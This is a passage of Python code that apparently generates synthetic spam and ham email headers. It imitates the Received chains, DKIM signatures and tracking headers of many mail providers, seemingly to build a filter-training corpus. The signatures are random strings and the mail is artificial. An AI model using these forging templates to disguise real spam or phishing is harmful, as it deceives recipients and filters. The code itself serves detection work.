             ('X-SES-Outgoing', '%s-%s' % (d.astimezone(UTC).strftime('%Y.%m.%d'), ip))]
    return _mk(ip=ip, helo=helo, mailfrom='%s@%s' % (sid, mfd), msgid=s.get('msgid') or '<%s@%s>' % (sid, host),
               dkim=[(dom, rl(32), 'rsa'), ('amazonses.com', rl(32), 'rsa')], extra=extra,
               bstyle=pick(['java', 'random', 'python']), unsub=_unsub_generic(c, org(dom)))


def s_sendgrid(c):
    d, s = c['d'], c['s']
    dom = c['dkim_dom']
    ip = rip()
    helo = pick(['o%d.ptr%s.%s' % (R.randint(1, 20), rdig(4), pick(['email.', 'mail.', 'e.', 'em.', '']) + dom),
                 'xtrw%s.outbound-mail.sendgrid.net' % rl(4)])
    pod = 'geopod-ismtpd-%d' % R.randint(1, 60)
    sgid = rs(22, ALNUM + '-_')
    rec = ['from %s (unknown)\n\tby %s (SG) with HTTP\n\tid %s\n\t%s' % (
        rb64(6).rstrip('='), pod, sgid, rfc_utc(d, ms=True))]
    mf = 'bounces+%s-%s-%s=%s@em%s.%s' % (rdig(8), rhex(4), _local(c['rcpt']), c['rdom'], rdig(4), org(dom))
    extra = [('X-SG-EID', 'u001.' + '\n '.join(textwrap.wrap(rb64(150), 70))), ('X-SG-ID', 'u001.' + rb64(60)),
             ('X-Entity-ID', 'u001.' + rb64(24))]
    lhost = ('u%s.ct.sendgrid.net' % rdig(7)) if s['label'] == 'ham' else ('url%s.%s' % (rdig(4), org(dom)))
    un = '<https://%s/lu/unsubscribe?oc=u001.%s>, <mailto:unsubscribe@em%s.%s>' % (
        lhost, rb64u(90), rdig(4), org(dom))
    return _mk(ip=ip, helo=helo, mailfrom=mf, msgid=s.get('msgid') or '<%s@%s>' % (sgid, pod), received=rec,
               dkim=[(dom, 's1', 'rsa'), ('sendgrid.info', 'smtpapi', 'rsa')], extra=extra,
               bstyle='hex', unsub=un)


def s_mailchimp(c):
    d, s = c['d'], c['s']
    dom = c['dkim_dom']
    pod = 'us%d' % R.randint(1, 21)
    host = 'mail%d-%d.%s%d.mcdlv.net' % (R.randint(100, 250), R.randint(1, 250), pick(['suw', 'atl', 'sea', 'wdc']), R.randint(10, 41))
    u, lid, e = rhex(25), rhex(10), rhex(10)
    slug = s.get('mc_slug') or re.sub(r'[^a-z0-9]', '', org(dom).split('.')[0])
    mf = 'bounce-mc.%s_%s.%s-%s=%s@%s' % (pod, rdig(8), rdig(7), _local(c['rcpt']), c['rdom'], host)
    extra = [('X-Mailer', 'Mailchimp Mailer - **CID%s%s**' % (rhex(10), rhex(10))),
             ('X-Campaign', 'mailchimp%s.%s' % (u, rhex(10))), ('X-campaignid', 'mailchimp%s.%s' % (u, rhex(10))),
             ('X-Report-Abuse', 'Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u=%s&id=%s&e=%s' % (u, rhex(10), e)),
             ('X-MC-User', u), ('Feedback-ID', '%s:%s.%s:%s:mc' % (rdig(8), rdig(8), rdig(7), pod)),
             ('List-ID', '%s <%smc.list-id.mcsv.net>' % (s.get('list_name') or slug, u)),
             ('X-Accounttype', pick(['pd', 'ff', 'pr']))]
    un = '<https://%s.%s.list-manage.com/unsubscribe?u=%s&id=%s&t=b&e=%s&c=%s>, <mailto:unsubscribe-mc.%s_%s.%s-%s@mailin%d.%s.mcsv.net?subject=unsubscribe>' % (
        slug, pod, u, lid, e, rhex(10), pod, u, lid, e, R.randint(1, 9), pod)
    return _mk(ip=rip(), helo=host, mailfrom=mf, msgid=s.get('msgid') or '<%s.%s.%s@%s>' % (rhex(32), rhex(10), rdig(8), host),
               received=['from localhost (localhost)\n\tby %s id h%s for <%s>; %s' % (host, rs(10, LOWER), c['rcpt'], rfc_utc(d))],
               dkim=[('mcdlv.net', 'k2', 'rsa'), (dom, 'k1', 'rsa')], extra=extra, bstyle='mc', unsub=un,
               sender='%s <%s=%s@%s>' % (s.get('list_name') or slug.title(), _local(c['faddr']), c['fdom'], host))


def s_mandrill(c):
    d, s = c['d'], c['s']
    dom = c['dkim_dom']
    host = 'mail%d-%d.atl%d.mandrillapp.com' % (R.randint(130, 190), R.randint(1, 250), R.randint(11, 141))
    uid = rdig(8)
    mf = 'bounce-md_%s.%s.v1-%s@mandrillapp.com' % (uid, rhex(8), rhex(32))
    extra = [('X-Mandrill-User', 'md_' + uid), ('Feedback-ID', '%s:%s.%s:md' % (uid, uid, d.strftime('%Y%m%d'))),
             ('X-Report-Abuse', 'Please forward a copy of this message, including all headers, to abuse@mandrill.com. You can also report abuse here: https://mandrillapp.com/contact/abuse?id=%s.%s' % (uid, rhex(32)))]
    return _mk(ip=rip(), helo=host, mailfrom=mf, msgid=s.get('msgid') or '<%s.%s@mandrillapp.com>' % (rhex(32), d.astimezone(UTC).strftime('%Y%m%d%H%M%S')),
               received=['from pmta08.mandrill.prod.atl01.rsglab.com (localhost)\n\tby %s (Mailchimp) with ESMTP id 4b%s\n\tfor <%s>; %s' % (host, rs(11), c['rcpt'], rfc_utc(d))],
               dkim=[('mandrillapp.com', 'mandrill', 'rsa'), (dom, 'mte1', 'rsa')], extra=extra, bstyle='mc',
               unsub='<mailto:unsub-%s.%s@mandrillapp.com>' % (uid, rhex(32)))


def s_klaviyo(c):
    d, s = c['d'], c['s']
    dom = c['dkim_dom']
    acct = rs(6)
    ip = rip()
    helo = 's%d.%s' % (R.randint(1, 40), pick(['send.', 'mail.', 'em.']) + org(dom))
    ul = rs(26, '0123456789ABCDEFGHJKMNPQRSTVWXYZ')
    mf = 'bounce+%s-%s=%s@%s' % (rl(10), _local(c['rcpt']), c['rdom'], pick(['send.', 'mail.']) + org(dom))
    extra = [('X-Kmail-Account', acct), ('X-Kmail-Message', ul), ('X-Kmail-Relay', 'mta-%s' % rl(4)),
             ('Feedback-ID', '%s:%s:%s:klaviyo' % (acct, rs(6), rl(8)))]
    un = '<https://manage.kmail-lists.com/subscriptions/unsubscribe?a=%s&c=%s&k=%s&m=%s&r=%s>, <mailto:unsub-%s@unsub.klaviyomail.com>' % (
        acct, rs(26), rhex(32), rs(26), rs(22), rb64u(20))
    return _mk(ip=ip, helo=helo, mailfrom=mf, msgid=s.get('msgid') or '<%s.%s@klaviyomail.com>' % (ul, rl(6)),
               dkim=[(dom, 'kl', 'rsa'), ('klaviyomail.com', 'kl2', 'rsa')], extra=extra, bstyle='python', unsub=un)


def s_hubspot(c):
    d, s = c['d'], c['s']
    dom = c['dkim_dom']
    portal = rdig(8)
    helo = '%s%d.hubspotemail.net' % (pick(['bid', 'ob', 'zj']), R.randint(1, 99))
    mf = '1ax%s-%s=%s@bounce.%s' % (rl(38), _local(c['rcpt']), c['rdom'], org(dom))
    extra = [('X-HS-Cid', rs(44)), ('X-Report-Abuse-To', 'abuse@hubspot.com'),
             ('Feedback-ID', '%s:%s:%s:HubSpot' % (portal, rdig(9), rl(6))),
             ('X-HubSpot-Portal', portal)]
    un = '<https://%s/hs/manage-preferences/unsubscribe-all?languagePreference=en&d=%s&v=3&_hsenc=p2ANqtz-%s>, <mailto:%s-unsub@bounce.%s>' % (
        s.get('hs_host') or 'info.' + org(dom), rb64u(40), rb64u(48), rl(12), org(dom))
    return _mk(ip=rip(), helo=helo, mailfrom=mf,
               msgid=s.get('msgid') or '<%d.%s@%s>' % (int(d.timestamp() * 1000), ruuid(), pick(['bf10z.hubspotemail.net', 'bd4z.hubspotemail.net', 'hubspot.com'])),
               dkim=[(dom, 'hs1-%s' % portal, 'rsa'), ('hubspotemail.net', 'hs2', 'rsa')], extra=extra,
               bstyle='java', unsub=un)


def s_sfmc(c):
    d, s = c['d'], c['s']
    sub = s.get('esp_sub') or 'e.' + org(c['fdom'])
    helo = 'mta%d.%s' % (R.randint(1, 9), sub)
    mf = 'bounce-%s_HTML-%s-%s-%s-%s@bounce.%s' % (rdig(2), rdig(9), rdig(6), rdig(7), rdig(3), sub)
    extra = [('x-job', '%s_%s' % (rdig(7), rdig(6))), ('X-SFMC-Stack', str(R.randint(1, 12))),
             ('x-messageKey', ruuid())]
    un = '<https://click.%s/subscription_center.aspx?jwt=%s>, <mailto:leave-%s@leave.%s>' % (sub, rb64u(96), rhex(40), sub)
    return _mk(ip=rip(), helo=helo, mailfrom=mf,
               msgid=s.get('msgid') or '<%s@%ss%02dmta%s.xt.local>' % (ruuid(), pick(['ind1', 'atl1', 'las1', 'iad4']), R.randint(4, 13), rdig(4)),
               dkim=[(s.get('dkim_dom') or sub, '200608', 'rsa')], extra=extra, bstyle='java', unsub=un, hstyle='sfmc')


def s_postmark(c):
    d, s = c['d'], c['s']
    dom = c['dkim_dom']
    helo = 'mta%da-%s.mtasv.net' % (R.randint(1, 250), pick(['ord', 'iad', 'dfw']))
    extra = [('X-PM-Message-Id', ruuid()), ('X-PM-RCPT', '|bTB8%s|' % rb64(30)),
             ('X-PM-Tag', s.get('pm_tag', 'transactional')),
             ('Feedback-ID', 's%s-%s:s%s:a%s:postmark' % (rdig(6), rb64u(6), rdig(6), rdig(6)))]
    return _mk(ip=rip(), helo=helo, mailfrom='pm_bounces@pm-bounces.' + org(dom),
               msgid=s.get('msgid') or '<%s@mtasv.net>' % ruuid(),
               dkim=[(dom, '%spm' % d.strftime('%Y%m%d%H%M%S'), 'rsa'), ('pm.mtasv.net', 'pm20240227', 'rsa')],
               extra=extra, bstyle='random', hstyle='esp')


def s_mailgun(c):
    d, s = c['d'], c['s']
    dom = s.get('mg_dom') or 'mg.' + org(c['dkim_dom'])
    helo = 'm%d-%d.mailgun.net' % (R.randint(40, 240), R.randint(1, 250))
    extra = [('X-Mailgun-Sid', rb64(48)), ('Sender', '%s@%s' % (_local(c['faddr']), dom))]
    return _mk(ip=rip(), helo=helo, mailfrom='bounce+%s.%s-%s=%s@%s' % (rhex(6), rhex(6), _local(c['rcpt']), c['rdom'], dom),
               msgid=s.get('msgid') or '<%s.%s@%s>' % (d.astimezone(UTC).strftime('%Y%m%d%H%M%S'), rhex(16), dom),
               dkim=[(dom, pick(['krs', 'mx', 'pic', 'smtp']), 'rsa')], extra=extra, bstyle='hex',
               unsub='<https://email.%s/u/%s>' % (dom, rb64u(80)))


def s_sparkpost(c):
    d, s = c['d'], c['s']
    dom = c['dkim_dom']
    helo = 'mta-%d-%d.sparkpostmail.com' % (R.randint(10, 240), R.randint(1, 250))
    extra = [('X-MSFBL', '\n '.join(textwrap.wrap(rb64(150), 70)))]
    return _mk(ip=rip(), helo=helo, mailfrom='msprvs1=%s=bounces-%s@%s' % (rs(17), rdig(6), 'spmailtechn.com' if s['label'] == 'ham' else 'bounces.' + org(dom)),
               msgid=s.get('msgid') or '<%s.%s.%s.%s@%s.mta1vrest.cc.prd.sparkpost>' % (rHEX(2), rHEX(2), rdig(5), rHEX(8), pick(['ab', 'c1', 'd4'])),
               dkim=[(dom, 'scph%s' % rdig(4), 'rsa'), ('spmailtechn.com', 'scph0817', 'rsa')], extra=extra,
               bstyle='random', unsub=_unsub_generic(c, org(dom)))


def s_brevo(c):
    d, s = c['d'], c['s']
    dom = c['dkim_dom']
    ip = rip()
    helo = '%s%d.sender-sib.com' % (pick(['mr', 'cr', 'bl']), R.randint(1, 99))
    extra = [('X-Mailin-EID', rb64(40)), ('X-sib-id', rb64(60)), ('X-CSA-Complaints', 'csa-complaints@eco.de'),
             ('Feedback-ID', '%s:%s_-1:%s:Sendinblue' % (ip, rdig(7), rdig(7)))]
    if s['label'] == 'ham':
        un = '<https://%s.r.%s.d.sendibm%d.com/mk/un/v2/%s>, <mailto:unsubscribe@sib.%s>' % (
            rl(5), pick(['bh', 'af', 'tr']), R.randint(1, 4), rb64u(60), org(dom))
        mf = '%s+%s@bounces.sendibt%d.com' % (rl(10), rdig(7), R.randint(1, 4))
    else:
        un = '<https://%s.r.%s/mk/un/v2/%s>, <mailto:unsubscribe@sib.%s>' % (rl(5), org(dom), rb64u(60), org(dom))
        mf = '%s+%s@bnc.%s' % (rl(10), rdig(7), org(dom))
    return _mk(ip=ip, helo=helo, mailfrom=mf,
               msgid=s.get('msgid') or '<%s@smtp-relay.mailin.fr>' % ruuid(),
               dkim=[(dom, 'brevo%d' % R.randint(1, 2), 'rsa'), ('sendibm%d.com' % R.randint(1, 4), 'mail', 'rsa')],
               extra=extra, bstyle='random', unsub=un)


def s_mailjet(c):
    d, s = c['d'], c['s']
    dom = c['dkim_dom']
    helo = 'o%d.p%d.mailjet.com' % (R.randint(1, 250), R.randint(1, 30))
    extra = [('X-MJ-Mid', rb64(60)), ('X-CSA-Complaints', 'csa-complaints@eco.de'),
             ('Feedback-Id', '%s.%s.%s:MJ' % (rdig(2), rdig(7), rdig(7)))]
    ham = s['label'] == 'ham'
    return _mk(ip=rip(), helo=helo, mailfrom='%s.%s.%s@%s' % (rs(8), rs(10), rs(6), 'bnc3.mailjet.com' if ham else 'bnc.' + org(dom)),
               msgid=s.get('msgid') or '<%s.%s@mailjet.com>' % (rhex(8), rs(22)),
               dkim=[(dom, 'mailjet', 'rsa')], extra=extra, bstyle='random',
               unsub=('<https://%s.mjt.lu/unsub2?hl=en&m=%s&b=%s>, <mailto:unsub-%s@mailjet.com>' % (rl(5), rb64u(40), rhex(8), rb64u(30))) if ham else
               ('<https://%s.%s/unsub2?hl=en&m=%s&b=%s>, <mailto:unsub-%s@bnc.%s>' % (rl(5), org(dom), rb64u(40), rhex(8), rb64u(30), org(dom))))


_GOOG_HOSTS = ['pj1', 'pl1', 'wm1', 'ed1', 'lf1', 'qk1', 'yw1', 'oa1', 'ej1', 'wr1', 'yb1', 'il1', 'vk1', 'ua1']


def s_google(c):
    d, s = c['d'], c['s']
    consumer = c['fdom'] in ('gmail.com', 'googlemail.com')
    ip = rip()
    helo = 'mail-%s-f%d.google.com' % (pick(_GOOG_HOSTS), R.randint(41, 200))
    smtpid = '%s-%s%s.%d' % (rdig(11), rl(1), rhex(12) + 'so' + rdig(7), R.randint(1, 9))
    rec = ['by %s with SMTP id %s\n        for <%s>; %s' % (helo, smtpid, c['rcpt'], rfc_pacific(d))]
    extra = []
    if not consumer:
        extra.append(('X-Google-DKIM-Signature', 'v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t=%d; x=%d;\n        h=to:subject:message-id:date:from:mime-version:x-gm-message-state:from:to:cc:subject:date:message-id:reply-to;\n        bh=%s;\n        b=%s' % (int(d.timestamp()), int(d.timestamp()) + 604800, rb64(32), '\n         '.join(textwrap.wrap(rb64(256), 70)))))
    extra += [('X-Gm-Message-State', 'AOJu0Y' + rs(54, ALNUM + '+/') + '=='),
              ('X-Gm-Gg', 'ASbGnc' + '\n\t'.join(textwrap.wrap(rs(140, ALNUM + '+/'), 72))),
              ('X-Google-Smtp-Source', 'AGHT+I' + rs(66, ALNUM + '+/') + '==')]
    msgid = s.get('msgid') or '<CA%s%s@mail.gmail.com>' % (rs(3, 'BCDEFGHJKLMNOPQRSTUVWXYZ'), rs(R.randint(42, 52), ALNUM + '+_-') + pick(['', '=', '=Q', '+w']))
    return _mk(ip=ip, helo=helo, mailfrom=c['faddr'], msgid=msgid, received=rec,
               dkim=[(c['fdom'], '20230601' if consumer else 'google', 'rsa')], extra=extra, bstyle='gmail',
               hstyle='gmail', ctstyle='quoted')


def s_m365(c):
    d, s = c['d'], c['s']
    consumer = c['fdom'] in ('outlook.com', 'hotmail.com', 'live.com', 'outlook.de', 'hotmail.fr', 'outlook.es')
    pod = pick(['namprd11', 'namprd04', 'namprd12', 'namprd03', 'eurprd04', 'eurprd08', 'eurprd02'])
    if consumer:
        pod = pick(['EURP193', 'NAMP220', 'EURP194', 'NAMP223'])
    srv = '%s%dMB%d' % (pick(['SJ0PR', 'DM6PR', 'BN9PR', 'CH3PR', 'MW4PR', 'PH0PR', 'DU0PR', 'AS8PR', 'PAXPR', 'VI1PR']),
                        R.randint(10, 19), R.randint(1000, 9999))
    if consumer:
        srv = '%s%dMB%d' % (pick(['PAXP', 'DB9P', 'SA1P', 'LV3P', 'CH2P']), R.randint(190, 223), R.randint(1000, 9999))
    full = '%s.%s.prod.outlook.com' % (srv, pod)
    msgid = s.get('msgid') or '<%s%s@%s>' % (srv, rHEX(R.randint(18, 24)), full.upper() if consumer else full)
    region = pick(['NAM12', 'NAM11', 'NAM10', 'NAM02', 'EUR05', 'EUR03', 'EUR02']) if not consumer else pick(['EUR05', 'NAM11', 'EUR02'])
    helo = '%s-%s-obe.outbound.protection.outlook.com' % (region, pick(['DM6', 'BN8', 'MW2', 'SN1', 'VI1', 'DB5', 'AM7']))
    ip = rip()
    t1 = later(d, 0, 1)
    tenant = s.get('tenant') or re.sub(r'[^a-z0-9]', '', org(c['fdom']).split('.')[0])[:18]
    rec = ['from %s\n by %s with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.%d.%d; %s' % (
        full, full.replace(srv, srv[:-4] + rdig(4)), R.randint(8700, 9400), R.randint(10, 40), format_datetime(t1.astimezone(UTC))),
        'from %s\n by %s\n with mapi id 15.20.%d.%03d; %s' % (full, full, R.randint(8700, 9400), R.randint(10, 40), format_datetime(d.astimezone(UTC)))]
    dkim = [('outlook.com' if consumer else c['fdom'], 'selector1', 'rsa')]
    if not consumer:
        dkim.append(('%s.onmicrosoft.com' % tenant, 'selector1-%s-onmicrosoft-com' % tenant, 'rsa'))
    topic = re.sub(r'^(?:(?:RE|Re|AW|FW|Fwd|TR|RV|WG):\s*)+', '', s['subject'])
    extra = [('Thread-Topic', ew(topic, 'utf-8')), ('Thread-Index', 'A' + rs(3, 'QRdBHX') + rb64(18)[:24] + '=='),
             ('X-MS-Has-Attach', 'yes' if s.get('attachments') else ''), ('X-MS-TNEF-Correlator', ''),
             ('x-ms-publictraffictype', 'Email'), ('X-MS-Exchange-CrossTenant-Network-Message-Id', ruuid()),
             ('X-MS-Exchange-CrossTenant-AuthSource', full), ('X-MS-Exchange-CrossTenant-AuthAs', 'Internal'),
             ('X-MS-Exchange-CrossTenant-id', ruuid()), ('X-OriginatorOrg', 'outlook.com' if consumer else c['fdom'])]
    if consumer:
        extra.append(('x-ms-exchange-messagesentrepresentingtype', '1'))
    return _mk(ip=ip, helo=helo, mailfrom=c['faddr'], msgid=msgid, received=rec, dkim=dkim, extra=extra,
               bstyle='outlook', hstyle='outlook', ctstyle='quoted',
               langs=[('Accept-Language', s.get('lang_tag', 'en-US')), ('Content-Language', s.get('lang_tag', 'en-US'))])


def s_icloud(c):
    d, s = c['d'], c['s']
    host = 'st43p00im-%s%s.me.com' % (pick(['ztdg', 'zteg', 'ztfb', 'qukt']), rdig(8))
    ip = rip()
    mac = s.get('client', pick(['iphone', 'mac']))
    rec = ['from smtpclient.apple (%s [%s])\n\tby %s (Postfix) with ESMTPSA id %s\n\tfor <%s>; %s' % (
        host, rip(), host, rHEX(11), c['rcpt'], rfc_utc(d))]
    if mac == 'iphone':
        ua = [('X-Mailer', 'iPhone Mail (%s)' % pick(['22F76', '22G86', '23A341', '23B85', '22E240']))]
        mv = '1.0 (1.0)'
    else:
        ver = pick(['3826.500.181.1.5', '3826.600.51.1.1', '3864.100.1.1.3'])
        ua = [('X-Mailer', 'Apple Mail (2.%s)' % ver)]
        mv = '1.0 (Mac OS X Mail 16.0 \\(%s\\))' % ver
    return _mk(ip=ip, helo=host, mailfrom=c['faddr'], msgid=s.get('msgid') or '<%s@icloud.com>' % ruuid(True),
               received=rec, dkim=[(c['fdom'], '1a1hai', 'rsa')], ua=ua, mimever=mv, bstyle='apple',
               hstyle='apple', ctstyle='apple',
               extra=[('X-Proofpoint-ORIG-GUID', rs(32, ALNUM + '-_')), ('X-Proofpoint-GUID', rs(32, ALNUM + '-_'))])


def s_zoho(c):
    d, s = c['d'], c['s']
    ip = rip()
    helo = 'sender4-%s-o%d.zoho.com' % (pick(['op', 'pp', 'of']), R.randint(10, 99))
    ms = int(d.timestamp() * 1000)
    rec = ['from mail.zoho.com by mx.zohomail.com\n\twith SMTP id %d%s; %s' % (ms, rdig(3), format_datetime(d.astimezone(tzone(-7))).replace('-0700', '-0700 (PDT)'))]
    return _mk(ip=ip, helo=helo, mailfrom=c['faddr'],
               msgid=s.get('msgid') or '<%s.%s.%s@%s>' % (format(ms, 'x'), rhex(16), rdig(19), c['fdom']),
               received=rec, dkim=[(c['fdom'], 'zmail', 'rsa')],
               ua=[('User-Agent', 'Zoho Mail'), ('X-Mailer', 'Zoho Mail')],
               extra=[('ARC-Seal', 'i=1; a=rsa-sha256; t=%d; cv=none;\n\td=zohomail.com; s=zohoarc;\n\tb=%s' % (int(d.timestamp()), '\n\t'.join(textwrap.wrap(rb64(256), 72)))),
                      ('Importance', 'Medium')],
               bstyle='zoho', hstyle='tbird', ctstyle='bare')


def s_fastmail(c):
    d, s = c['d'], c['s']
    n = R.randint(1, 9)
    helo = 'fout-%s%d-smtp.messagingengine.com' % (pick(['a', 'b']), R.randint(1, 8))
    rec = ['from phl-compute-%02d.internal (phl-compute-%02d.internal)\n\tby mailfout.phl.internal (Postfix) with ESMTP id %s\n\tfor <%s>; %s' % (
        n, n, rHEX(12), c['rcpt'], format_datetime(d)),
        'from phl-imap-%02d by phl-compute-%02d.internal (MEProxy); %s' % (R.randint(1, 20), n, format_datetime(d))]
    return _mk(ip=rip(), helo=helo, mailfrom=c['faddr'], msgid=s.get('msgid') or '<%s@app.fastmail.com>' % ruuid(),
               received=rec, dkim=[(c['fdom'], 'fm%d' % R.randint(1, 3), 'rsa'), ('messagingengine.com', 'fm%d' % R.randint(1, 3), 'rsa')],
               ua=[('User-Agent', 'Cyrus-JMAP/3.13.0-alpha0-%s-%s' % (rdig(4), rhex(8)))],
               extra=[('X-ME-Sender', '<xms:%s>' % rb64u(60)), ('X-ME-Proxy', '<xmx:%s>' % rb64u(40)),
                      ('Feedback-ID', 'i%s:Fastmail' % rhex(8))],
               bstyle='random', hstyle='tbird', ctstyle='quoted')


def s_proton(c):
    d, s = c['d'], c['s']
    helo = 'mail-%d.protonmail.ch' % R.randint(4000, 4399)
    return _mk(ip=rip(), helo=helo, mailfrom=c['faddr'], msgid=s.get('msgid') or '<%s=@proton.me>' % rs(86, ALNUM + '_-'),
               dkim=[(c['fdom'], 'protonmail3', 'rsa')],
               extra=[('X-Pm-Message-ID', rb64(32)), ('Feedback-ID', '%s:user:proton' % rb64(40))],
               bstyle='random', hstyle='tbird', ctstyle='quoted')


def s_yahoo(c):
    d, s = c['d'], c['s']
    helo = 'sonic%d-%d.consmr.mail.%s.yahoo.com' % (R.randint(300, 330), R.randint(10, 40), pick(['ne1', 'bf2', 'gq1']))
    rec = ['from sonic.gate.mail.ne1.yahoo.com by sonic%d.consmr.mail.ne1.yahoo.com with HTTP; %s' % (R.randint(300, 330), format_datetime(d.astimezone(UTC)))]
    return _mk(ip=rip(), helo=helo, mailfrom=c['faddr'], msgid=s.get('msgid') or '<%s.%s.%s@mail.yahoo.com>' % (rdig(9), rdig(7), rdig(13)),
               received=rec, dkim=[('yahoo.com', 's2048', 'rsa')],
               ua=[('X-Mailer', 'WebService/1.1.%d YMailNorrin' % R.randint(23000, 24500))],
               extra=[('X-YMail-OSG', rs(120, ALNUM + '._'))], bstyle='java', hstyle='esp', ctstyle='bare')


def s_cpanel(c):
    """Shared cPanel/Exim host; s['host'] names the server."""
    d, s = c['d'], c['s']
    host = s.get('host') or 'server%d.web-hosting.com' % R.randint(100, 399)
    ip = rip()
    eid = '%s-%s-%s' % (rs(6), rs(7), rs(2))
    if s.get('webmail', False):
        rec = ['from [%s] (port=%d helo=[%s])\n\tby %s with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.98)\n\t(envelope-from <%s>)\n\tid %s\n\tfor %s;\n\t%s' % (
            rip(), R.randint(40000, 65000), pick(['localhost', 'DESKTOP-' + rHEX(7), 'webmail.' + c['fdom']]),
            host, c['faddr'], eid, c['rcpt'], format_datetime(d))]
    else:
        rec = ['from %s by %s with local (Exim 4.98)\n\t(envelope-from <%s>)\n\tid %s\n\tfor %s;\n\t%s' % (
            s.get('cpuser', _local(c['faddr'])[:8]), host, c['faddr'], eid, c['rcpt'], format_datetime(d))]
    extra = [('X-AntiAbuse', 'This header was added to track abuse, please include it with any abuse report'),
             ('X-AntiAbuse', 'Primary Hostname - ' + host),
             ('X-AntiAbuse', 'Original Domain - ' + c['rdom']),
             ('X-AntiAbuse', 'Originator/Caller UID/GID - [%d %d] / [47 12]' % (R.randint(1000, 3000), R.randint(1000, 3000))),
             ('X-AntiAbuse', 'Sender Address Domain - ' + c['fdom']),
             ('X-Get-Message-Sender-Via', '%s: authenticated_id: %s' % (host, c['faddr'])),
             ('X-Authenticated-Sender', '%s: %s' % (host, c['faddr']))]
    if s.get('source_args'):
        extra += [('X-Source', ''), ('X-Source-Args', s['source_args']), ('X-Source-Dir', '%s:/public_html' % c['fdom'])]
    dk = [(c['fdom'], 'default', 'rsa')] if s.get('cp_dkim') else []
    mid = s.get('msgid') or ('<%s@%s>' % (rhex(32), c['fdom']) if s.get('webmail') else '<%s@%s>' % (rs(43), c['fdom']))
    return _mk(ip=ip, helo=host, mailfrom=c['faddr'], msgid=mid, received=rec, dkim=dk, extra=extra,
               bstyle='roundcube' if s.get('webmail') else 'php', hstyle='esp', ctstyle='bare')


def s_github(c):
    d, s = c['d'], c['s']
    helo = 'out-%d.smtp.github.com' % R.randint(18, 28)
    rec = ['from github.com (hubbernetes-node-%s.ac4-iad.github.net [%s])\n\tby smtp.github.com (Postfix) with ESMTPA id 4b%s\n\tfor <%s>; %s' % (
        rl(5), rip(), rs(11), c['rcpt'], format_datetime(d.astimezone(tzone(-7))))]
    return _mk(ip=rip(), helo=helo, mailfrom='noreply@github.com', msgid=s['msgid'], received=rec,
               dkim=[('github.com', 'pf2023', 'rsa')], bstyle='random', hstyle='esp', ctstyle='bare')


def s_postfix(c):
    """A self-run Postfix server (mailing lists, small orgs, VPS senders)."""
    d, s = c['d'], c['s']
    host = s.get('host') or 'mail.' + c['fdom']
    ip = rip()
    rec = []
    if s.get('submit_from'):
        rec.append('from %s (%s [%s])\n\t(Authenticated sender: %s)\n\tby %s (Postfix) with ESMTPSA id %s\n\tfor <%s>; %s' % (
            s['submit_from'], s.get('submit_rdns', 'unknown'), rip(), s.get('auth_user', c['faddr']), host, rs(10, 'BCDFGHJKLMNPQRSTVWXYZ0123456789'),
            (s['to'][0][1] if isinstance(s['to'], list) else s['to'][1]), format_datetime(d)))
    dk = [(c['dkim_dom'], s.get('selector', pick(['mail', 'dkim', 'default', '2025'])), 'rsa')] if not s.get('no_dkim') else []
    return _mk(ip=ip, helo=host, mailfrom=s.get('mailfrom') or c['faddr'],
               msgid=s.get('msgid') or '<%s.%s@%s>' % (d.strftime('%Y%m%d%H%M%S'), rhex(12), host),
               received=rec, dkim=dk, bstyle=s.get('bstyle', 'random'), hstyle=s.get('hstyle', 'esp'), ctstyle='bare')


def s_direct(c):
    """Direct-to-MX from an unknown host: botnets, cheap VPS, compromised PCs."""
    d, s = c['d'], c['s']
    helo = s.get('helo') or pick(['User', 'localhost.localdomain', 'WIN-%s' % rHEX(11), 'mail.%s' % c['fdom'],
                                  'vps%d.%s' % (R.randint(100, 9999), pick(['hostsphere.xyz', 'cloudnode-fast.top', 'vmnet-kvm.online']))])
    mid = s.get('msgid') or pick(['<%s$%s@%s>' % (rhex(16), rhex(8), c['fdom']), '<%s@%s>' % (rHEX(24), helo),
                                  '<%s.%s@%s>' % (rdig(10), rdig(6), c['fdom'])])
    return _mk(ip=rip(), helo=helo, mailfrom=s.get('mailfrom') or c['faddr'], msgid=mid,
               dkim=[], bstyle=s.get('bstyle', pick(['nextpart', 'random', 'php'])), hstyle='esp', ctstyle='quoted',
               tls=R.random() < 0.5, rdns_unknown=True)


INFRA = {
    'ses': s_ses, 'sendgrid': s_sendgrid, 'mailchimp': s_mailchimp, 'mandrill': s_mandrill,
    'klaviyo': s_klaviyo, 'hubspot': s_hubspot, 'sfmc': s_sfmc, 'postmark': s_postmark,
    'mailgun': s_mailgun, 'sparkpost': s_sparkpost, 'brevo': s_brevo, 'mailjet': s_mailjet,
    'google': s_google, 'm365': s_m365, 'icloud': s_icloud, 'zoho': s_zoho, 'fastmail': s_fastmail,
    'proton': s_proton, 'yahoo': s_yahoo, 'cpanel': s_cpanel, 'github': s_github, 'postfix': s_postfix,
    'direct': s_direct,
}


# ============================================================================
# DKIM / ARC / Authentication-Results
# ============================================================================
def fold_list(items, sep=':', width=64, indent='\t'):
    lines, cur = [], ''
    for it in items:
        add = (sep if cur else '') + it
        if len(cur) + len(add) > width and cur:
            lines.append(cur + sep)
            cur = it
        else:
            cur += add
    lines.append(cur)
    return ('\n' + indent).join(lines)


def dkim_value(dom, sel, algo, hnames, t, style='esp'):
    a = 'ed25519-sha256' if algo == 'ed25519' else 'rsa-sha256'
    b = rb64(64 if algo == 'ed25519' else 256)
    ind = '        ' if style == 'gmail' else '\t'
    h = fold_list(hnames, ':', 60, ind)
    parts = 'v=1; a=%s; c=relaxed/relaxed; d=%s;\n%ss=%s; t=%d;\n%sh=%s;\n%sbh=%s;\n%sb=%s' % (
        a, dom, ind, sel, t, ind, h, ind, rb64(32), ind, ('\n' + ind + ' ').join(textwrap.wrap(b, 70)))
    return parts, b[:8]


def dmarc_outcome(c, snd, dk_results):
    s = c['s']
    pol = s.get('dmarc_p', 'UNSET')
    if pol == 'UNSET':
        pol = CONSUMER_DMARC.get(c['fdom'])
        if pol is None:
            pol = 'reject' if s['label'] == 'ham' and s['infra'] not in ('cpanel', 'postfix') else pick(['none', 'none', 'quarantine', None])
    fo = org(c['fdom'])
    spf = s.get('spf', 'pass')
